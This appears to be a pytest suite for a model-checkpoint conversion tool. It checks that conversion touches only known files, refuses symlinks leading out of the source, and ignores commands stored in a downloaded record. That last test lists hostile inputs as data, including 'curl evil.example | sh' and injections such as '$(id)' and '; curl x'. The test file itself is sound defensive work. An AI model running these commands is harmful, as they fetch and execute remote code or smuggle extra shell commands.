"""What a conversion touches: files on its own list of names, whatever else the source and the target hold."""

import json
import os
from pathlib import Path

import pytest
from conftest import SMALL_FILES, contents

from mlx_diffusion.checkpoint.folder import DEMO_FOLDER, Checkpoint
from mlx_diffusion.checkpoint.weight_files import weight_names
from mlx_diffusion.convert import convert
from mlx_diffusion.convert import source as source_module
from mlx_diffusion.convert.known_files import is_leftover, is_replaced
from mlx_diffusion.convert.upload import upload
from mlx_diffusion.errors import CheckpointError, ConversionError
from mlx_diffusion.tokenizer import load_tokenizer

STRANGERS = [
    ".mine.safetensors", ".note.part", ".x_processor_config.json", ".notes.txt.0123abcd.part", ".env", ".DS_Store",
    "._model.safetensors", ".downloads/mine", ".downloads/.cache/other", ".downloads/x.incomplete", ".tokenizer.x",
]  # fmt: skip
OTHERS = ["mine.safetensors", "note.part", "x_processor_config.json", "tokenizer_notes.txt", "chat_template.html"]


def put(folder: Path, names: list[str]) -> None:
    for name in names:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(f"mine: {name}")


def held(folder: Path, names: list[str]) -> list[str]:
    return [name for name in names if (folder / name).is_file() and (folder / name).read_text() == f"mine: {name}"]


@pytest.mark.parametrize("force", [False, True])
def test_hidden_files_are_not_in_the_way_and_stay(force: bool, target: Path) -> None:
    put(target, STRANGERS)
    convert(DEMO_FOLDER, target, force=force)
    assert held(target, STRANGERS) == STRANGERS
    Checkpoint.open(target)


def test_force_replaces_a_checkpoint_and_nothing_beside_it(source: Path, target: Path) -> None:
    put(target, OTHERS)
    convert(DEMO_FOLDER, target, force=True)
    convert(source, target, force=True)
    assert held(target, OTHERS) == OTHERS


def test_leftovers_of_a_killed_conversion_go_whatever_they_are(source: Path, target: Path, tmp_path: Path) -> None:
    target.mkdir()
    left = [".config.json.0123abcd.part", "model-00001-of-00003.safetensors.part", ".conversion.json.00000000.part"]
    for name in left:
        (target / name).symlink_to(tmp_path / "elsewhere")  # not written through either
    convert(source, target, force=True)
    assert not set(left) & set(os.listdir(target)) and not (tmp_path / "elsewhere").exists()


@pytest.mark.parametrize(
    ("name", "leftover", "replaced"),
    [
        ("model-00001-of-00002.safetensors", False, True),
        ("model-00001-of-00002.safetensors.part", True, True),
        (".tokenizer.json.89abcdef.part", True, True),
        (".tokenizer.json.part", False, False),
        (".secret.89abcdef.part", False, False),
        ("adapter.safetensors", False, False),
        ("._model.safetensors", False, False),
        ("LICENSE", False, False),
        ("additional_chat_templates/tool_use.jinja", False, True),
        ("additional_chat_templates/.tool_use.jinja.89abcdef.part", True, True),
        ("additional_chat_templates/notes.txt", False, False),
        ("others/tool_use.jinja", False, False),
    ],
)
def test_names(name: str, leftover: bool, replaced: bool) -> None:
    assert (is_leftover(name), is_replaced(name)) == (leftover, replaced)


def test_only_known_files_are_copied(source: Path, target: Path) -> None:
    put(source, ["notes.txt", "passwords.json", "diary.md", "LICENSE", "x.jinja", "x.model"])
    convert(source, target)
    assert not {"notes.txt", "passwords.json", "diary.md", "x.jinja", "x.model"} & set(contents(target))
    assert {"LICENSE", *SMALL_FILES} <= set(contents(target))


@pytest.mark.parametrize("name", ["tokenizer.json", "merges.txt", "README.md", "config.json", "LICENSE"])
def test_links_out_of_the_source_are_refused(name: str, source: Path, target: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("{}")
    (source / name).unlink(missing_ok=True)
    (source / name).symlink_to(secret)
    with pytest.raises(CheckpointError, match=f"{name} links to a file elsewhere, which is not read") as caught:
        convert(source, target)
    assert "\n" not in str(caught.value) and not target.exists()


def test_links_within_a_cached_repository_are_its_files(source: Path, target: Path, tmp_path: Path) -> None:
    """As huggingface_hub lays out its cache."""
    snapshot, blobs = tmp_path / "models--a--b" / "snapshots" / "abc", tmp_path / "models--a--b" / "blobs"
    snapshot.mkdir(parents=True)
    blobs.mkdir()
    for number, name in enumerate(sorted(os.listdir(source))):
        (source / name).rename(blobs / str(number))
        (snapshot / name).symlink_to(f"../../blobs/{number}")
    convert(snapshot, target)
    assert set(SMALL_FILES) <= set(contents(target))


TEMPLATES = ["additional_chat_templates/tool_use.jinja", "additional_chat_templates/rag.v2.jinja"]


def test_named_templates_go_along_and_are_replaced(source: Path, target: Path, tmp_path: Path) -> None:
    put(source, [*TEMPLATES, "additional_chat_templates/notes.txt", "other_templates/x.jinja"])
    convert(source, target)
    assert held(target, TEMPLATES) == TEMPLATES
    assert {name for name in contents(target) if "/" in name} == {*TEMPLATES}
    said = [{"role": "user", "content": "x"}]
    rendered = load_tokenizer(target).apply_chat_template(said, chat_template="rag.v2", tokenize=False)
    assert rendered == f"mine: {TEMPLATES[1]}"
    convert(DEMO_FOLDER, target, force=True)
    assert not (target / "additional_chat_templates").exists()
    (tmp_path / "mine").mkdir()
    put(tmp_path / "mine", ["tool_use.jinja"])
    (target / "additional_chat_templates").symlink_to(tmp_path / "mine")
    convert(source, target, force=True)
    assert held(target, TEMPLATES) == TEMPLATES and held(tmp_path / "mine", ["tool_use.jinja"])


@pytest.mark.parametrize("inside", [False, True])
def test_templates_behind_a_link_out_of_the_source_are_refused(
    inside: bool, source: Path, target: Path, tmp_path: Path
) -> None:
    elsewhere = source / "templates" if inside else tmp_path / "secret"
    put(elsewhere, ["tool_use.jinja"])
    (source / "additional_chat_templates").symlink_to(elsewhere)
    if inside:
        convert(source, target)
        assert TEMPLATES[0] in contents(target)
    else:
        with pytest.raises(CheckpointError, match=r"tool_use\.jinja links to a file elsewhere"):
            convert(source, target)


def test_a_huge_small_file_is_not_read(source: Path, target: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with (source / "notes.txt").open("wb") as stream:
        stream.truncate(10**13)  # has no blocks, and nobody may look
    convert(source, target)
    monkeypatch.setattr(source_module, "SMALL_BYTES", 100_000_000)
    os.truncate(source / "tokenizer.json", 100_000_001)
    with pytest.raises(CheckpointError, match=r"tokenizer\.json has 100.00 MB, where 100.00 MB are the most"):
        convert(source, target, force=True)


def test_a_link_in_the_target_is_not_uploaded(target: Path, tmp_path: Path) -> None:
    convert(DEMO_FOLDER, target)
    (tmp_path / "secret").write_text("{}")
    (target / "vocab.json").symlink_to(tmp_path / "secret")
    with pytest.raises(ConversionError, match=r"vocab\.json is a link"):
        upload(target, "toy/new")
    (target / "vocab.json").unlink()
    put(tmp_path / "mine", ["tool_use.jinja"])
    (target / "additional_chat_templates").symlink_to(tmp_path / "mine")
    with pytest.raises(ConversionError, match=r"tool_use\.jinja is a link"):
        upload(target, "toy/new")


@pytest.mark.parametrize("hidden", ["._model-00001-of-00002.safetensors", ".x.safetensors", "._model.safetensors"])
def test_hidden_files_are_no_weights(hidden: str) -> None:
    shards = ["model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors"]
    assert weight_names([hidden, *shards], dict, "folder") == shards
    with pytest.raises(CheckpointError, match="has no safetensors file, so no weights"):
        weight_names([hidden, "._model.bin"], dict, "folder")


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh", "mlx-diffusion convert a b; curl x", "mlx-diffusion convert $(id) b",
        "mlx-diffusion convert a\nb", "mlx-diffusion convert 'a", "mlx-diffusion generate x",
        "mlx-diffusion convert a\x1b[2J b", 7, None,
    ],
)  # fmt: skip
def test_a_downloaded_record_dictates_no_command(command: object, source: Path) -> None:
    (source / "conversion.json").write_text(json.dumps({"command": command}))
    with pytest.raises(CheckpointError, match="to go on, run: the same `mlx-diffusion convert` again"):
        Checkpoint.open(source)


def test_what_is_uploaded_names_a_local_source_and_not_where_it_lay(source: Path, target: Path) -> None:
    convert(source, target)
    for name in ("README.md", "made_from.json"):
        text = (target / name).read_text()
        assert str(source.parent) not in text and source.name in text
